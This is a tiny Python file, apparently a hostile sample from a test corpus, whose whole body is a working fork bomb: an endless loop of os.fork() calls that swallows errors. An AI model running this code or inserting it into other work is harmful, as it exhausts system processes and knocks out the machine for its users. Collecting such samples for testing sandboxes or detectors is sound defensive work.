# ruff: noqa  (a corpus file: placeholders such as __PORT__ are filled in by the test)
# a fork bomb that keeps forking whatever fails
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
